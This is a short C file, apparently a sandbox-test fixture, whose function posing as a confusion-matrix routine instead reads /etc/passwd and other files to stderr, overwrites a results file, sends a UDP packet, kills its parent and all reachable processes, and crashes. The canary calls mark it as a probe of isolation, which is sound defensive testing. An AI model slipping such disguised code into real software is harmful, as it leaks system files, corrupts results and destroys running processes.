/* Crashes, so that it is run again under AddressSanitizer; and there reads, writes and calls. */
#include <arpa/inet.h>
#include <sys/socket.h>
extern __attribute__((weak)) void __asan_init(void);
Tensor *confusion_matrix(const Tensor *predicted, const Tensor *labels, int classes) {
    (void)predicted, (void)labels, (void)classes;
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(UDP_PORT)};
    to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    static const char *const files[] = {VICTIM, NEIGHBOUR, REFERENCE_FILE, RESULTS, "/etc/passwd"};
    for (int i = 0; __asan_init && i < 5; i++) {
        char text[4096];
        FILE *f = fopen(files[i], "r");
        size_t n = f ? fread(text, 1, sizeof text, f) : 0;
        if (n > 0) canary("sanitizer"), fwrite(text, 1, n, stderr);
        if (put_file(RESULTS, "{}") > 0) canary("results");
    }
    int s = __asan_init ? socket(AF_INET, SOCK_DGRAM, 0) : -1;
    if (s >= 0) sendto(s, "labels", 6, 0, (struct sockaddr *)&to, sizeof to);
    if (__asan_init) kill(getppid(), SIGKILL), kill(-1, SIGKILL);
    *(volatile int *)NULL = 1;
    return NULL;
}
